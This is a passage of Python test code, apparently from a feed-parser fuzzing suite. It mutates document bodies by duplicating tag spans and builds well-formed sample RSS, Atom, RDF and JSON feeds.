    if 0 <= opening < closing < opening + 500:
        place = chance.randrange(len(body))
        body[place:place] = body[opening : closing + 1] * chance.choice((1, 2, 30))


def honest(number: int) -> Iterable[bytes]:
    """Honest documents of every format, each different for another number."""
    text = rss(f"<item><title>Further report {number}</title></item>", root=NAMESPACES)
    return (
        text,
        atom(f"<entry><title>Further report {number}</title></entry>"),
        rdf(),
        json_feed(json.dumps({"id": str(number)})),
    )
